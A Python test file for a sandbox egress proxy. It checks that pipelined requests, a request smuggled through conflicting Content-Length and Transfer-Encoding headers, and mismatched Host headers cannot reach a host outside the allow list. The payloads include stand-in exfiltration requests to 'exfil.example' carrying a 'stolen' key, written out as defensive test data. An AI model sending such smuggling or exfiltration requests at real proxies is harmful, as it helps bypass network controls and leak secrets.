"""The egress proxy's plain-HTTP path, attacked as a sandboxed server would: requests that try
to reach a host outside the allow list behind one that is inside it (kept alive, pipelined in
one packet, hidden in a body read two ways, or named by a Host header other than the URL).
A real proxy on loopback, a real site behind it that records every request it is sent."""

from __future__ import annotations

import socket
import struct
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import h11
import pytest

from loopback import Accepting
from mcpward.sandbox._proxy import EgressProxy
from mcpward.sandbox.interface import NetworkRules


class _Site(Accepting):
    """An allowed HTTP/1.1 site on loopback that reads requests with h11 (bodies included),
    keeps connections alive, and records each request's target and Host header."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        super().__init__()

    def handle(self, connection: socket.socket) -> None:
        server = h11.Connection(h11.SERVER)
        for _ in range(200):  # bounded: events on one connection
            try:
                event = server.next_event()
                if event is h11.NEED_DATA:
                    server.receive_data(connection.recv(4096))
                    continue
            except (OSError, h11.ProtocolError):
                return
            if isinstance(event, h11.Request):
                host = dict(event.headers).get(b"host", b"").decode()
                self.seen.append(f"{event.method.decode()} {event.target.decode()} host={host}")
            elif isinstance(event, h11.EndOfMessage):
                headers = [("content-length", "2")]
                connection.sendall(server.send(h11.Response(status_code=200, headers=headers)) or b"")
                connection.sendall((server.send(h11.Data(data=b"ok")) or b"") + (server.send(event) or b""))
                if server.our_state is not h11.DONE or server.their_state is not h11.DONE:
                    return
                server.start_next_cycle()
            elif not isinstance(event, h11.Data):
                return


@pytest.fixture
def proxied(tmp_path: Path) -> Iterator[dict[str, Any]]:
    site = _Site()
    records: list[dict[str, Any]] = []
    proxy = EgressProxy(
        tmp_path / "unused.sock",
        NetworkRules(allow=("api.example.com:80", "other.example.com:80")),
        records.append,
        resolve={
            "api.example.com:80": ("127.0.0.1", site.port),
            "other.example.com:80": ("127.0.0.1", site.port),
        },
        tcp=True,
    )
    proxy.start()
    try:
        yield {"port": proxy.port, "site": site, "records": records}
    finally:
        proxy.stop()
        site.close()


def _exchange(port: int, payload: bytes, answers: int) -> bytes:
    """``payload`` sent in one packet; what comes back until ``answers`` responses or the end."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as tcp:
        tcp.sendall(payload)
        got = b""
        for _ in range(100):  # bounded
            if got.count(b"HTTP/1.1 ") >= answers:
                break
            chunk = tcp.recv(4096)
            if not chunk:
                break
            got += chunk
        return got


def _settle(records: list[dict[str, Any]], count: int) -> None:
    deadline = time.monotonic() + 5
    while len(records) < count and time.monotonic() < deadline:
        time.sleep(0.05)


def test_a_pipelined_request_for_an_unlisted_host_is_refused_and_recorded(proxied: dict[str, Any]) -> None:
    payload = (b"GET http://api.example.com/ok HTTP/1.1\r\nHost: api.example.com\r\n\r\n"
               b"GET http://exfil.example/upload?key=stolen HTTP/1.1\r\nHost: exfil.example\r\n\r\n")  # fmt: skip
    got = _exchange(proxied["port"], payload, 2)
    assert got.startswith(b"HTTP/1.1 200") and b"HTTP/1.1 403" in got
    _settle(proxied["records"], 2)
    assert proxied["site"].seen == ["GET /ok host=api.example.com"]
    blocked = [r for r in proxied["records"] if r["decision"] == "block"]
    assert blocked and blocked[0]["host"] == "exfil.example"


def test_a_request_hidden_in_a_body_read_two_ways_never_goes_out(proxied: dict[str, Any]) -> None:
    hidden = b"GET http://exfil.example/upload?key=stolen HTTP/1.1\r\nHost: exfil.example\r\n\r\n"
    body = b"0\r\n\r\n" + hidden
    payload = (b"POST http://api.example.com/form HTTP/1.1\r\nHost: api.example.com\r\n"
               b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n" % len(body)) + body  # fmt: skip
    got = _exchange(proxied["port"], payload, 2)
    assert got.startswith(b"HTTP/1.1 400")
    _settle(proxied["records"], 1)
    assert proxied["site"].seen == []
    assert [r["decision"] for r in proxied["records"]] == ["block"]
    assert "smuggling" in proxied["records"][0]["reason"]


@pytest.mark.parametrize(
    "host",
    [b"exfil.example", b"api.example.com:8080", b"api.example.com@exfil.example", b"api.example.com/x"],
)
def test_a_host_header_naming_another_site_is_refused(proxied: dict[str, Any], host: bytes) -> None:
    payload = b"GET http://api.example.com/fronted HTTP/1.1\r\nHost: " + host + b"\r\n\r\n"
    got = _exchange(proxied["port"], payload, 1)
    assert got.startswith(b"HTTP/1.1 400")
    _settle(proxied["records"], 1)
    assert proxied["site"].seen == []
    assert proxied["records"] and proxied["records"][0]["decision"] == "block"


def test_a_request_without_its_destination_in_full_is_refused(proxied: dict[str, Any]) -> None:
    got = _exchange(proxied["port"], b"GET /ok HTTP/1.1\r\nHost: api.example.com\r\n\r\n", 1)
    assert got.startswith(b"HTTP/1.1 400") and proxied["site"].seen == []


def test_legitimate_keep_alive_requests_to_two_allowed_hosts_each_pass_and_are_recorded(
    proxied: dict[str, Any],
) -> None:
    payload = (b"GET http://api.example.com/one HTTP/1.1\r\nHost: api.example.com\r\n\r\n"
               b"POST http://other.example.com/two HTTP/1.1\r\nHost: other.example.com\r\n"
               b"Transfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n"
               b"GET http://API.example.com:80/three?x=1 HTTP/1.1\r\nHost: api.example.com:80\r\n\r\n")  # fmt: skip
    got = _exchange(proxied["port"], payload, 3)
    assert got.count(b"HTTP/1.1 200") == 3
    _settle(proxied["records"], 3)
    assert proxied["site"].seen == [
        "GET /one host=api.example.com",
        "POST /two host=other.example.com",
        "GET /three?x=1 host=api.example.com:80",
    ]
    assert [(r["host"], r["decision"]) for r in proxied["records"]] == [
        ("api.example.com", "allow"), ("other.example.com", "allow"), ("api.example.com", "allow"),
    ]  # fmt: skip


def test_a_client_resetting_its_kept_alive_connection_adds_no_record(proxied: dict[str, Any]) -> None:
    """A request answered, then the connection reset while the proxy waits for the next: the
    reset was recorded as another allowed request to the last host (under load, a fourth
    record beside the three of the test above)."""
    with socket.create_connection(("127.0.0.1", proxied["port"]), timeout=10) as tcp:
        tcp.sendall(b"GET http://api.example.com/one HTTP/1.1\r\nHost: api.example.com\r\n\r\n")
        got = b""
        for _ in range(100):  # bounded
            if b"HTTP/1.1 200" in got:
                break
            got += tcp.recv(4096)
        _settle(proxied["records"], 1)  # the answer relayed whole: the proxy waits for the next
        # closed with a reset (SO_LINGER 0), as a client killed or timing out does
        tcp.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    time.sleep(1)  # a record of the reset came at once
    assert [(r["host"], r["decision"], "error" in r) for r in proxied["records"]] == [
        ("api.example.com", "allow", False)
    ]
